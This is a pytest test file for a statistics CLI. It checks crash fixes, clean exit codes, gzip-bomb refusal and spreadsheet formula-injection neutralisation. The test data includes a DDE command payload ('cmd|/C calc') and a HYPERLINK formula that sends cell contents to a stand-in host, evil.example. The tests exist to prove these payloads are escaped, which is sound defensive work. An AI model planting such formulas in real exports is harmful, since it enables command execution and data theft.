"""Issue 42, defects 2, 7, 10 and 12: crashes, tracebacks, formula injection and smaller
faults, each with the case that failed on the code before the fix.

Commands run in this process through :func:`benchmarks.faults_lib.run` (an exception that
escapes is exit 1 with its traceback in the captured stderr); Ctrl-C runs a child process
paused inside the command (the pause hook of :mod:`bacon_bayes.outputs`) and interrupts
it there. The same cases are in ``python -m benchmarks.fault_matrix`` (their runners:
:mod:`benchmarks.faults_crash_cases`).
"""

from __future__ import annotations

import gzip
import inspect
import json
import os
import signal
import sqlite3
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from bacon_bayes import Calibrator, csv_format
from bacon_bayes import io as bio
from bacon_bayes.doctor import bias
from bacon_bayes.errors import ValidationError
from bacon_bayes.testing.fake_server import FakeChatServer, Reply, Status, numeric_reply
from benchmarks import faults_crash_cases as cases
from benchmarks.faults_lib import paused, run

pytestmark = pytest.mark.filterwarnings("ignore::RuntimeWarning")


def clean(code: int, err: str, expect_code: int = 2) -> None:
    """Exit ``expect_code``, a message, no traceback."""
    assert "Traceback" not in err, err
    assert code == expect_code, err


# --- 2: a text column with a missing cell ------------------------------------------------


def test_words_of_a_missing_text_are_unknown():
    got = bias.words(pd.Series(["one two three", None, "", pd.NA]))
    np.testing.assert_array_equal(got, [3.0, np.nan, 0.0, np.nan])


def test_doctor_and_report_take_a_text_column_with_a_missing_cell(tmp_path):
    # `doctor` and `report` crashed with a TypeError on pd.NA (estimate did not)
    cases.text_table(tmp_path / "t.csv")
    code, err, text = cases.run_out(["doctor", "t.csv", "--label", "y"], tmp_path)
    clean(code, err, 0)
    assert "response length (response, words)" in text
    assert "1 labeled item with no text left out: length unknown" in text
    assert "n=39" in text  # 40 labeled items, the one without a text left out
    code, err = run(
        ["report", "t.csv", "--label", "y", "--judge", "j1", "--judge", "j2",
         "--engine", "freq", "--out", "r.html"],
        tmp_path,
    )  # fmt: skip
    clean(code, err, 0)
    assert "labeled item with no text left out: length unknown" in (tmp_path / "r.html").read_text()


# --- 7: tracebacks instead of exit 2 -----------------------------------------------------


@pytest.mark.parametrize("name", ["deep.json", "deep.jsonl", "deep_objects.jsonl"])
@pytest.mark.parametrize("command", ["doctor", "estimate"])
def test_a_deeply_nested_json_file_is_refused(name, command, tmp_path):
    cases.deep_json(tmp_path)
    argv = [command, name] + (["--label", "y", "--judge", "j"] if command == "estimate" else [])
    code, err = run(argv, tmp_path)
    clean(code, err)
    assert "nested too deeply" in err


@pytest.mark.parametrize(("column", "words"), [("y", "label column 'y'"), ("j1", "judge 'j1'")])
def test_huge_labels_and_scores_are_refused(column, words, tmp_path):
    cases.equal_labels(tmp_path / "t.csv", value=1.0)
    frame = pd.read_csv(tmp_path / "t.csv")
    frame["y"] = frame["y"].where(frame["y"].isna(), np.arange(len(frame)) % 3 + 1.0)
    frame.loc[4, column] = 1e308 if column == "y" else -1e308
    frame.to_csv(tmp_path / "t.csv", index=False)
    code, err = run(["estimate", "t.csv", *cases.EQUAL_ARGS[:-2]], tmp_path)
    clean(code, err)
    assert words in err and "rescale the column" in err and "line 6 (item 'i4')" in err


def test_equal_labels_with_groups_give_a_message_and_save_only_on_success(tmp_path):
    # LinAlgError / a scipy ValueError after --save had written the calibrator
    cases.equal_labels(tmp_path / "t.csv")
    code, err = run(["estimate", "t.csv", *cases.EQUAL_ARGS, "--save", "cal.nc"], tmp_path)
    assert "Traceback" not in err, err
    assert code in (0, 2)
    if code == 0:  # the mean is exact; the group part is skipped with the reason
        Calibrator.load(tmp_path / "cal.nc")
    else:
        assert not (tmp_path / "cal.nc").exists()
    code, err = run(
        ["report", "t.csv", *cases.EQUAL_ARGS, "--out", "r.html"], tmp_path
    )  # fmt: skip
    clean(code, err)
    assert "all 60 labels of 'y' are 3" in err
    code, err = run(["plan", "t.csv", *cases.EQUAL_ARGS[:6], "--group", "g", "--top"], tmp_path)
    clean(code, err)
    assert "no spread" in err


def test_a_command_that_fails_after_the_fit_saves_nothing(tmp_path, monkeypatch):
    cases.equal_labels(tmp_path / "t.csv")
    frame = pd.read_csv(tmp_path / "t.csv")
    frame["y"] = frame["y"].where(frame["y"].isna(), np.arange(len(frame)) % 5 + 1.0)
    frame.to_csv(tmp_path / "t.csv", index=False)

    def fails(*args, **kwargs):
        raise ValidationError("an estimate failed after the fit")

    monkeypatch.setattr(Calibrator, "estimate_mean", fails)
    argv = ["estimate", "t.csv", *cases.EQUAL_ARGS[:-2], "--save", "cal.nc"]
    code, err = run([*argv, "--history", "h.jsonl"], tmp_path)
    clean(code, err)
    assert not (tmp_path / "cal.nc").exists() and not (tmp_path / "h.jsonl").exists()


@pytest.fixture(scope="module")
def saved(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("saved")
    cases.equal_labels(root / "t.csv", value=None)
    code, err = run(["estimate", "t.csv", *cases.EQUAL_ARGS[:-2], "--save", "cal.nc"], root)
    assert code == 0, err
    return root / "cal.nc"


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        ("list", "are a JSON list, not an object"),
        ("folds", "folds=-3 must be a whole number >= 2"),
        ("seed", "seed=-1 must be null or a whole number >= 0"),
        ("winsor", "winsor=[0.9, 0.1] must be two quantiles"),
        # tester B finding 9: a valid scale that the saved labels leave
        ("scale", "its saved scale does not hold its saved labels: label 'y' is"),
        ("unknown", "unknown saved setting 'colour'"),
    ],
)
def test_a_calibrator_with_changed_settings_is_refused_on_load(saved, edit, words, tmp_path):
    path = tmp_path / "cal.nc"
    cases.edit_config(saved, path, edit)
    with pytest.raises(ValidationError) as caught:
        Calibrator.load(path)
    assert words in str(caught.value)
    code, err = run(["report", "cal.nc", "--out", "r.html"], tmp_path)
    clean(code, err)


def test_save_with_a_frozen_calibrator_is_refused_before_any_work(saved):
    argv = ["estimate", "t.csv", "--calibrator", "cal.nc", "--save", "again.nc"]
    code, err = run(argv, saved.parent)
    clean(code, err)
    assert "would save the old calibration again" in err
    assert not (saved.parent / "again.nc").exists()


def test_every_setting_of_the_calibrator_is_checked_on_load():
    from bacon_bayes.persist import _SETTINGS

    names = set(inspect.signature(Calibrator.__init__).parameters) - {"self"}
    assert set(_SETTINGS) == names


@pytest.mark.parametrize("command", ["estimate --history", "simulate"])
def test_ctrl_c_is_exit_130_and_a_line_in_every_command(command, tmp_path):
    # estimate and simulate printed a KeyboardInterrupt traceback; judge already did this.
    # The child pauses inside the command (after claiming its output), so the signal
    # cannot land while Python is still importing.
    argv = cases.prepare_interrupt(command, tmp_path)
    proc = paused(argv, tmp_path, "claimed")
    os.kill(proc.pid, signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert "Traceback" not in err, err
    assert proc.returncode == 130, err
    assert "interrupted" in err


# --- 10: spreadsheet formula injection ---------------------------------------------------

CELLS = ["=1+1", "+cmd|' /C calc'!A0", "-x", "@SUM(A1)", "\tlead", "\rcr", "'quoted",
         "''=two", "-5", "-3.5e2", "+7", "plain", "", "a=b"]  # fmt: skip


def test_people_csv_neutralises_formulas_and_reads_back_exactly(tmp_path):
    frame = pd.DataFrame({"cell": CELLS, "number": np.arange(len(CELLS)) - 5.5, "=name": "x"})
    text = bio.people_csv(frame)
    path = tmp_path / "p.csv"
    path.write_text(text)
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(raw.columns) == ["cell", "number", "'=name"]
    for given, written in zip(CELLS, raw["cell"], strict=True):
        risky = given[:1] in "=+-@\t\r'" and given not in ("-5", "-3.5e2", "+7") and given
        assert written == ("'" + given if risky else given), (given, written)
    assert raw["number"].iloc[0] == "-5.5"  # numbers stay numbers
    back = bio.read_table(path)
    assert list(back.columns) == list(frame.columns)
    assert back["cell"].fillna("").tolist() == CELLS
    np.testing.assert_array_equal(back["number"], frame["number"])


def test_to_label_files_are_safe_and_label_import_restores_the_ids(tmp_path):
    cases.formula_study(tmp_path)
    todo = pd.read_csv(tmp_path / "todo.csv", dtype=str, keep_default_na=False)
    assert all(not v.startswith(("=", "+", "@")) for v in todo["id"])
    assert all(not v.startswith(("=", "+", "@", "-")) for v in todo["text"] if v)
    assert {"-1", "-4"} & set(todo["id"])  # a number-like id is left as it is
    todo["human"] = "3"
    todo.to_csv(tmp_path / "filled.csv", index=False)
    code, err = run(["label", "import", "filled.csv", "--study", "study"], tmp_path)
    clean(code, err, 0)
    stored = pd.read_csv(tmp_path / "study" / "labels.csv", dtype=str)
    pool = pd.read_csv(tmp_path / "pool.csv", dtype=str)
    assert set(stored["item"]) <= set(pool["id"]) and len(stored) == len(todo)
    code, err = run(["status", "study", "--pending-out", "pending.csv"], tmp_path)
    clean(code, err, 0)


def test_the_judge_table_neutralises_replies(tmp_path):
    def script(request):
        if "1 " in request.user_text:
            return Reply('=HYPERLINK("http://evil.example/?"&A1, "4")')
        return numeric_reply(request.user_text)

    cases.essays_table(tmp_path / "items.csv")
    with FakeChatServer(script) as server:
        code, err = run(cases.judge_argv(server.url, "scores.csv"), tmp_path)
    clean(code, err, 0)
    raw = pd.read_csv(tmp_path / "scores.csv", dtype=str, keep_default_na=False)["raw"]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in raw)
    assert any(v.startswith("'=HYPERLINK") for v in raw)
    back = bio.read_table(tmp_path / "scores.csv")["raw"]
    assert any(str(v).startswith("=HYPERLINK") for v in back)


# --- 12: smaller -------------------------------------------------------------------------


def test_a_judge_run_with_no_reply_leaves_no_cache(tmp_path):
    cases.essays_table(tmp_path / "items.csv")
    with FakeChatServer(lambda request: Status(400)) as server:
        code, err = run(cases.judge_argv(server.url, "scores.csv"), tmp_path)
    clean(code, err)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["items.csv"]


def test_a_judge_run_keeps_a_cache_that_was_there(tmp_path):
    cases.essays_table(tmp_path / "items.csv")
    with FakeChatServer() as server:
        assert run(cases.judge_argv(server.url, "scores.csv"), tmp_path)[0] == 0
    with FakeChatServer(lambda request: Status(400)) as server:
        argv = [*cases.judge_argv(server.url, "other.csv"), "--cache", "scores.csv.cache.sqlite"]
        argv[argv.index("--judge") + 1] = f"b=judge-b@{server.url}"
        code, err = run(argv, tmp_path)
    clean(code, err)
    with sqlite3.connect(tmp_path / "scores.csv.cache.sqlite") as db:
        assert db.execute("SELECT count(*) FROM calls").fetchone()[0] == 12


def test_two_columns_of_one_name_are_refused_naming_both(tmp_path):
    cases.duplicate_columns(tmp_path / "t.csv")
    code, err = run(["estimate", "t.csv", "--label", "y", "--judge", "gpt4"], tmp_path)
    clean(code, err)
    assert "columns 2 and 4 are both named 'gpt4'" in err
    frame = pd.DataFrame({"gpt4": [1], "gpt4.1": [2], "x.1": [3]})  # real names: taken
    frame.to_csv(tmp_path / "ok.csv", index=False)
    assert list(bio.read_table(tmp_path / "ok.csv").columns) == ["gpt4", "gpt4.1", "x.1"]


def test_a_gzip_bomb_is_refused_without_reading_it_all(tmp_path, monkeypatch):
    # 40 MB of rows in a 40 kB file; the floor lowered to 4 MB to keep the test small
    monkeypatch.setattr(csv_format, "INFLATE_FLOOR", 4 << 20)
    cases.gzip_bomb(tmp_path / "t.csv.gz", members=40)
    with pytest.raises(ValidationError, match="decompression bomb"):
        bio.read_table(tmp_path / "t.csv.gz")
    code, err = run(["estimate", "t.csv.gz", "--label", "a", "--judge", "b"], tmp_path)
    clean(code, err)
    assert "decompress it yourself" in err
    small = pd.DataFrame({"a": np.arange(1000), "b": "x"})
    small.to_csv(tmp_path / "ok.csv.gz", index=False)
    pd.testing.assert_frame_equal(bio.read_table(tmp_path / "ok.csv.gz"), small)
    with gzip.open(tmp_path / "ok.csv.gz", "rt") as handle:
        assert handle.readline().strip() == "a,b"


def test_the_crash_cases_are_in_the_fault_matrix():
    from benchmarks.faults_cases import CASES

    assert set(cases.CASES) <= set(CASES)
    assert json.dumps(sorted(cases.CASES))
